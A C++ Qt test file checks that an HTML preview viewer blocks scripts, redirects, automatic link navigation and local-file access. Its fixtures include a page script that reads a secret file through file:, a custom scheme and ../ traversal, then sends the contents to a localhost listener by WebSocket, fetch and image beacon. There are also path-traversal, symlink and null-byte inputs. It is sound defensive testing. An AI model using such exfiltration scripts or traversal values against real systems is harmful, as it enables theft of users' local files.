// The preview as a hostile page would use it: a script that reads local
// files through "file:" and the viewer's own addresses and sends them to a
// listener on this machine, a page that redirects itself, and links that try
// to reach the browser without a click. Nothing may arrive, nothing may be
// handed on; pictures and style sheets still load.

#include "support/FileTree.h"
#include "viewer/HtmlViewer.h"

#include <QBuffer>
#include <QCryptographicHash>
#include <QHash>
#include <QSet>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QWebEngineUrlRequestInfo>
#include <QWebEngineView>
#include <QtTest>

using namespace wobbin;
using namespace wobbin::testing;

namespace {

// A listener on 127.0.0.1 that records the first line and body of every
// request and answers pictures and style sheets.
class Listener : public QObject
{
public:
    Listener()
    {
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *s = m_server.nextPendingConnection()) {
                connect(s, &QTcpSocket::readyRead, this, [this, s] { OnData(s); });
                connect(s, &QTcpSocket::disconnected, this, [this, s] {
                    m_webSockets.remove(s);
                    m_pending.remove(s);
                    s->deleteLater();
                });
            }
        });
    }
    bool Listen() { return m_server.listen(QHostAddress::LocalHost); }
    quint16 Port() const { return m_server.serverPort(); }
    QStringList Requests() const { return m_requests; }
    QByteArray Everything() const { return m_everything; }

private:
    // Messages of a WebSocket client: masked frames, decoded into the record.
    void OnFrames(QTcpSocket *s, QByteArray data)
    {
        data.prepend(m_pending.take(s));
        while (data.size() >= 2) {
            qsizetype len = quint8(data[1]) & 0x7f;
            qsizetype at = 2;
            if (len == 126) {
                if (data.size() < 4)
                    break;
                len = (quint8(data[2]) << 8) | quint8(data[3]);
                at = 4;
            } else if (len == 127) {
                if (data.size() < 10)
                    break;
                len = 0;
                for (int i = 2; i < 10; ++i)
                    len = (len << 8) | quint8(data[i]);
                at = 10;
            }
            if (data.size() < at + 4 + len)
                break;
            const QByteArray mask = data.mid(at, 4);
            QByteArray payload = data.mid(at + 4, len);
            for (qsizetype i = 0; i < payload.size(); ++i)
                payload[i] = char(payload[i] ^ mask[i % 4]);
            m_everything += "\n[websocket] " + payload + "\n";
            data.remove(0, at + 4 + len);
        }
        if (!data.isEmpty())
            m_pending.insert(s, data);
    }

    void OnData(QTcpSocket *s)
    {
        const QByteArray data = s->readAll();
        if (m_webSockets.contains(s)) {
            OnFrames(s, data);
            return;
        }
        m_everything += data;
        const QByteArray first = data.left(data.indexOf("\r\n"));
        const int keyAt = data.indexOf("Sec-WebSocket-Key: ");
        if (first.startsWith("GET ") && keyAt >= 0) {
            m_requests << QString::fromLatin1(first.split(' ').value(1));
            const QByteArray key = data.mid(keyAt + 19, data.indexOf("\r\n", keyAt) - keyAt - 19).trimmed();
            const QByteArray accept = QCryptographicHash::hash(key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11",
                                                               QCryptographicHash::Sha1).toBase64();
            s->write("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                     "Sec-WebSocket-Accept: " + accept + "\r\n\r\n");
            m_webSockets.insert(s);
            return;
        }
        if (first.startsWith("GET ") || first.startsWith("POST ")) {
            const QString path = QString::fromLatin1(first.split(' ').value(1));
            m_requests << path;
            QByteArray body;
            QByteArray type = "text/plain";
            if (path.startsWith(QLatin1String("/allowed.png"))) {
                QImage img(30, 20, QImage::Format_RGB32);
                img.fill(QColor(250, 0, 250));
                QBuffer b(&body);
                b.open(QIODevice::WriteOnly);
                img.save(&b, "PNG");
                type = "image/png";
            } else if (path.startsWith(QLatin1String("/style.css"))) {
                body = "body { background: #00FF00 !important; }";
                type = "text/css";
            } else {
                body = "root:x:0:0:root:/root:/bin/bash\n";
            }
            s->write("HTTP/1.1 200 OK\r\nContent-Type: " + type + "\r\nContent-Length: "
                     + QByteArray::number(body.size()) + "\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n"
                     + body);
            s->disconnectFromHost();
        }
    }

    QTcpServer m_server;
    QSet<QTcpSocket *> m_webSockets;
    QHash<QTcpSocket *, QByteArray> m_pending;
    QStringList m_requests;
    QByteArray m_everything;
};

bool Near(QRgb a, QColor b, int tolerance = 12)
{
    return qAbs(qRed(a) - b.red()) <= tolerance && qAbs(qGreen(a) - b.green()) <= tolerance
        && qAbs(qBlue(a) - b.blue()) <= tolerance;
}

} // namespace

class TestViewerSandbox : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QWidget *m_window = nullptr;
    THtmlViewer *m_viewer = nullptr;
    Listener m_listener;
    QString m_secret;

    QByteArray Url(const char *path) const
    {
        return "http://127.0.0.1:" + QByteArray::number(m_listener.Port()) + path;
    }

    // A page whose paragraph holds a script that steals local files.
    QString StealingPage() const
    {
        const QByteArray ws = "ws://127.0.0.1:" + QByteArray::number(m_listener.Port()) + "/ws";
        const QByteArray secret = m_secret.toUtf8();
        return QString::fromUtf8(
            "<HTML><HEAD><TITLE>Hello</TITLE>"
            "<LINK REL=\"stylesheet\" HREF=\"" + Url("/style.css") + "\">"
            "<LINK REL=\"stylesheet\" HREF=\"file://" + secret + "\"></HEAD>"
            "<BODY><P>Hello<SCRIPT>"
            "function send(d) {"
            "  try { var w = new WebSocket('" + ws + "'); w.onopen = function () { w.send('ws:' + d); }; } catch (e) {}"
            "  try { fetch('" + Url("/fetch") + "', {method: 'POST', body: d}); } catch (e) {}"
            "  try { new Image().src = '" + Url("/img?d=") + "' + encodeURIComponent(d.substr(0, 300)); } catch (e) {}"
            "}"
            "send('script-ran');"
            "fetch('file://" + secret + "').then(function (r) { return r.text(); }).then(send, function () {});"
            "fetch('wobbinview://local" + secret + "').then(function (r) { return r.text(); }).then(send, function () {});"
            "var x = new XMLHttpRequest(); x.open('GET', '../../../../../../../../" + secret.mid(1) + "');"
            "x.onload = function () { send(x.responseText); }; x.send();"
            "</SCRIPT></P>"
            "<IMG SRC=\"" + Url("/allowed.png") + "\" WIDTH=30 HEIGHT=20>"
            "<IMG SRC=\"file://" + secret + "\">"
            "<IFRAME SRC=\"" + Url("/frame.html") + "\"></IFRAME>"
            "<SCRIPT SRC=\"" + Url("/script.js") + "\"></SCRIPT>"
            "<OBJECT DATA=\"" + Url("/object") + "\"></OBJECT>"
            "</BODY></HTML>");
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        QVERIFY(m_listener.Listen());
        // A file outside the page's folder that a page must never reach.
        QVERIFY(QDir().mkpath(m_dir.filePath(QStringLiteral("page/graphics"))));
        m_secret = m_dir.filePath(QStringLiteral("secret.txt"));
        QVERIFY(WriteBytes(m_secret, "root:x:0:0:the secret:/root:/bin/bash\n"));
        m_window = new QWidget;
        m_window->resize(420, 320);
        m_viewer = new THtmlViewer(m_window);
        m_viewer->setGeometry(0, 0, 400, 300);
        m_window->show();
        QVERIFY(QTest::qWaitForWindowExposed(m_window));
    }

    void cleanupTestCase() { delete m_window; }

    void scriptsRunNowhereAndNothingGetsOut()
    {
        // The page from a file and as text, in the preview and in a style
        // sample side by side.
        THtmlViewer sample(m_window, THtmlViewer::Variant::StyleSample);
        sample.setGeometry(0, 0, 200, 120);
        sample.show();
        const QString page = m_dir.filePath(QStringLiteral("page/index.html"));
        QVERIFY(WriteBytes(page, StealingPage().toUtf8()));
        QList<QImage> shots;
        for (THtmlViewer *viewer : {m_viewer, &sample}) {
            viewer->LoadFromFile(page);
            QVERIFY(viewer->WaitForRendered());
            viewer->SetBaseFolder(m_dir.filePath(QStringLiteral("page")));
            viewer->LoadFromText(StealingPage());
            shots << viewer->GrabClientArea();
        }
        // The wait is the test: nothing the pages might still send arrives
        // within it.
        QTest::qWait(2500);

        // Only the picture and the style sheet were asked for.
        QStringList asked = m_listener.Requests();
        asked.removeDuplicates();
        asked.sort();
        QCOMPARE(asked, (QStringList{QStringLiteral("/allowed.png"), QStringLiteral("/style.css")}));
        QVERIFY2(!m_listener.Everything().contains("secret"), m_listener.Everything().constData());
        QVERIFY(!m_listener.Everything().contains("script-ran"));
        // Both arrived: the style sheet coloured the pages.
        for (const QImage &shot : shots)
            QVERIFY(Near(shot.pixel(shot.width() - 20, shot.height() - 20), QColor(0, 255, 0), 2));
    }

    void pagesCannotHandAddressesToTheBrowser()
    {
        QSignalSpy spy(m_viewer, &THtmlViewer::linkClicked);
        const QString page = QString::fromUtf8(
            "<HTML><HEAD><META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=" + Url("/refresh") + "\"></HEAD>"
            "<BODY STYLE=\"margin:0\"><P><SCRIPT>location.href = '" + Url("/script") + "';"
            "window.open('" + Url("/popup") + "');"
            "document.getElementById('go').click();</SCRIPT></P>"
            "<A ID=\"go\" HREF=\"" + Url("/clicked") + "\"><IMG SRC=\"" + Url("/allowed.png")
            + "\" WIDTH=120 HEIGHT=80 BORDER=0></A></BODY></HTML>");
        m_viewer->SetBaseFolder(m_dir.filePath(QStringLiteral("page")));
        m_viewer->LoadFromText(page);
        const QImage shot = m_viewer->GrabClientArea();
        // The wait is the test: no address is handed on or asked for within it.
        QTest::qWait(2500);
        QCOMPARE(spy.count(), 0);
        QStringList asked = m_listener.Requests();
        asked.removeDuplicates();
        asked.sort();
        QCOMPARE(asked, (QStringList{QStringLiteral("/allowed.png"), QStringLiteral("/style.css")}));
        QVERIFY(!m_viewer->IsLoading());

        // A real click of the user on the link hands its address on, once.
        QWidget *target = m_viewer->View()->focusProxy() ? m_viewer->View()->focusProxy()
                                                         : static_cast<QWidget *>(m_viewer->View());
        QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(60, 40));
        QTRY_COMPARE_WITH_TIMEOUT(spy.count(), 1, 10000);
        QCOMPARE(spy.at(0).at(0).toUrl(), QUrl(QString::fromLatin1(Url("/clicked"))));
        QTest::qWait(500); // the wait is the test: no second hand-over within it
        QCOMPARE(spy.count(), 1);
        QVERIFY(!m_listener.Requests().contains(QStringLiteral("/clicked")));
    }

    void ownAddressesServeOnlyTheShownFolders()
    {
        const QString folder = m_dir.filePath(QStringLiteral("page"));
        QVERIFY(WriteBytes(folder + QStringLiteral("/graphics/Pic.png"), "png"));
        QVERIFY(QFile::link(m_secret, folder + QStringLiteral("/graphics/link.png")));
        QVERIFY(QFile::link(m_dir.path(), folder + QStringLiteral("/up")));
        const QStringList allowed{folder};
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("/graphics/pic.PNG"), allowed),
                 folder + QStringLiteral("/graphics/Pic.png"));
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("\\graphics\\Pic.png"), allowed),
                 folder + QStringLiteral("/graphics/Pic.png"));
        QCOMPARE(ViewerFileFor(m_secret, allowed), QString());
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("/../secret.txt"), allowed), QString());
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("/graphics/../../secret.txt"), allowed), QString());
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("\\..\\secret.txt"), allowed), QString());
        // An encoded slash arrives decoded; it climbs no further.
        QCOMPARE(ViewerFileFor(QUrl(QStringLiteral("wobbinview://local") + folder + QStringLiteral("/..%2Fsecret.txt"))
                                   .path(QUrl::FullyDecoded),
                               allowed),
                 QString());
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("/graphics/link.png"), allowed), QString());
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("/up/secret.txt"), allowed), QString());
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("/graphics/Pic.png") + QChar(0) + QStringLiteral(".x"),
                               allowed),
                 QString());
        QCOMPARE(ViewerFileFor(QStringLiteral("/etc/passwd"), allowed), QString());
        QCOMPARE(ViewerFileFor(folder + QStringLiteral("/graphics"), allowed), QString());

        // The request guard: "file:" never, the network for pictures and style sheets only.
        using Info = QWebEngineUrlRequestInfo;
        QVERIFY(!ViewerMayRequest(QUrl(QStringLiteral("file:///etc/passwd")), Info::ResourceTypeImage));
        QVERIFY(ViewerMayRequest(QUrl(QStringLiteral("http://x/a.png")), Info::ResourceTypeImage));
        QVERIFY(ViewerMayRequest(QUrl(QStringLiteral("https://x/a.css")), Info::ResourceTypeStylesheet));
        for (Info::ResourceType t : {Info::ResourceTypeXhr, Info::ResourceTypeScript, Info::ResourceTypeWebSocket,
                                     Info::ResourceTypeSubFrame, Info::ResourceTypeMainFrame,
                                     Info::ResourceTypeObject, Info::ResourceTypePing, Info::ResourceTypeMedia})
            QVERIFY2(!ViewerMayRequest(QUrl(QStringLiteral("http://127.0.0.1/x")), t), qPrintable(QString::number(t)));
        QVERIFY(!ViewerMayRequest(QUrl(QStringLiteral("ftp://x/a.png")), Info::ResourceTypeImage));
        QVERIFY(!ViewerMayRequest(QUrl(QStringLiteral("wobbinview://local/x.js")), Info::ResourceTypeScript));
    }
};

QTEST_MAIN(TestViewerSandbox)
#include "test_viewer_sandbox.moc"
